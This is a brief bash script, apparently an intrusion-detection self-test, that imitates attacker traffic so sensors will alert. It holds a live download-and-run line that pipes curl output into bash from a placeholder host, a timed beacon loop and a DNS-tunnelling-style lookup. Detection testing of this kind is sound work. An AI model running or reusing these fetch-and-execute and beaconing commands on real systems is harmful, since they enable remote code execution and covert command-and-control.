#!/usr/bin/env bash
# IDS self-test: generate attacker-like traffic so the sensors can alert.
# NOTE: simulated attacker behaviour - detection test only. The sensor blocks it.
set -u
TEST_HOST="203.0.113.77"

echo "[1/3] pipe-to-shell download (should alert: ET POLICY curl pipe to shell)"
curl -fsSL "http://$TEST_HOST/stage2.sh" | bash

echo "[2/3] beacon pattern (3 requests, 60s apart)"
for i in 1 2 3; do curl -fsS -m 5 "http://$TEST_HOST/b?i=$i" >/dev/null 2>&1; sleep 60; done

echo "[3/3] long DNS label"
dig +short "$(head -c 30 /dev/urandom | xxd -p).dnstest.example" >/dev/null 2>&1

echo "self-test done; check the IDS"
